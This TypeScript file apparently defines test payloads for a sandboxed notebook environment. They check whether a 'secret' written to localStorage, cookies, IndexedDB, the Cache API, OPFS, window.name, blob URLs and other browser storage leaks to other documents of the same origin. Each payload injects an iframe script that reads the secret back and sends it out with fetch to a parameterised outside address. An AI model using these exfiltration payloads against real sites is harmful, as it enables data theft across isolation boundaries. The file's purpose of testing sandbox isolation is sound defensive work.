import type { Payload } from '../payload.ts';
import { byScript, inCell, onlyHere, type Script } from './sameText.ts';

/** Leaves the secret where another document of the origin finds it: there, a frame of the page itself. */
const left = (
	id: string,
	channel: string,
	{ write, read }: { write: string; read: string },
	rest: Partial<Payload> = {}
): Payload => ({
	id,
	channel,
	realm: 'cage',
	cells: inCell(() => write),
	control: byScript(finder(write, read)),
	...rest
});

/** `read` is an expression; it is tried until it holds something. */
const finder =
	(write: string, read: string): Script =>
	({ http }) =>
		`${write};\nconst frame = document.createElement('iframe');\nframe.srcdoc = ${JSON.stringify(
			`<script>(async () => { for (let n = 0; n < 40; n++) { const found = await (async () => ${read})().catch(() => ''); if (found) return fetch('${http}?' + found, { mode: 'no-cors' }); await new Promise((again) => setTimeout(again, 50)); } })()</scr`
		)} + 'ipt>';\ndocument.body.append(frame)`;

const databases = `new Promise((done, fail) => { const asked = indexedDB.open('thief', 1); asked.onupgradeneeded = () => asked.result.createObjectStore('x'); asked.onsuccess = () => done(asked.result); asked.onerror = fail; })`;

/** What would be found by the next notebook, the next tab or the next page of the origin. */
export const storage: readonly Payload[] = [
	left('local-storage', 'localStorage', {
		write: `globalThis.localStorage.setItem('thief', secret)`,
		read: `localStorage.thief`
	}),
	left('session-storage', 'sessionStorage', {
		write: `globalThis.sessionStorage.setItem('thief', secret)`,
		read: `sessionStorage.thief`
	}),
	left('cookie', 'cookie', {
		write: `globalThis.document.cookie = 'thief=' + secret`,
		read: `/thief=([^;]*)/.exec(document.cookie)[1]`
	}),
	left('cookie-store', 'cookieStore', {
		write: `await cookieStore.set('thiefs', secret)`,
		read: `(await cookieStore.get('thiefs')).value`
	}),
	left('indexed-db', 'IndexedDB', {
		write: `const base = await ${databases};\nbase.transaction('x', 'readwrite').objectStore('x').put(secret, 1)`,
		read: `(await new Promise(async (done) => { const asked = (await ${databases}).transaction('x').objectStore('x').get(1); asked.onsuccess = () => done(asked.result); }))`
	}),
	left('cache-put', 'Cache API', {
		write: `await (await caches.open('thief')).put('/thief', new Response(secret))`,
		read: `(await (await caches.open('thief')).match('/thief')).text()`
	}),
	left('opfs', 'OPFS', {
		write: `const folder = await navigator.storage.getDirectory();\nconst file = await (await folder.getFileHandle('thief', { create: true })).createWritable();\nawait file.write(secret); await file.close()`,
		read: `(await (await (await navigator.storage.getDirectory()).getFileHandle('thief')).getFile()).text()`
	}),
	left(
		'storage-bucket',
		'storage buckets',
		{
			write: `const bucket = await navigator.storageBuckets.open('thief');\nawait (await bucket.caches.open('thief')).put('/thief', new Response(secret))`,
			read: `(await (await (await navigator.storageBuckets.open('thief')).caches.open('thief')).match('/thief')).text()`
		},
		{ without: ['firefox'] }
	),
	left('window-name', 'window.name', {
		write: `globalThis.top.name = secret`,
		read: `top.name`
	}),
	left('blob-address', 'blob: address', {
		write: `globalThis.top.thief = URL.createObjectURL(new Blob([secret]))`,
		read: `(await fetch(top.thief)).text()`
	}),
	{
		id: 'cache-add',
		channel: 'CacheStorage.add',
		realm: 'cage',
		cells: inCell(({ http }) => `await (await caches.open('thief')).add('${http}?' + secret)`),
		control: byScript(({ http }) => `await (await caches.open('thief')).add('${http}?' + secret)`)
	},
	onlyHere('persist', 'storage quota', {
		script: () => `await navigator.storage.persist(); await navigator.storage.estimate()`,
		why: 'asks for room, and has no address'
	})
];
